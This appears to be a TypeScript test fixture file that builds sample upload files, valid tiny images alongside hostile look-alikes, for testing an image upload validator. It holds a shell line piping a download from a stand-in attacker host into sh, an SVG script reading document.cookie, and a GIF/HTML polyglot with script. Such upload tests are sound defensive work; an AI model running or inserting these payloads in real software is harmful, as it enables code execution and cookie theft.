// Real (tiny) pictures and look-alikes for upload tests.

/** A 1x1 PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A 1x1 JPEG. */
export const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////' +
    '////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);

/** An SVG with a script: an image to a browser, never to us. */
export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);

/** A shell script renamed to look like a picture. */
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');

/** An HTML page starting with a GIF header ("polyglot"): neither jpg nor png. */
export const GIF_HTML = Buffer.concat([
  Buffer.from('GIF89a'),
  Buffer.from('<html><script>alert(1)</script></html>'),
]);

/** A PNG just over the 2 MB limit (valid header, padded). */
export function oversizedPng(): Buffer {
  return Buffer.concat([PNG, Buffer.alloc(2 * 1024 * 1024 + 1 - PNG.length + 1)]);
}
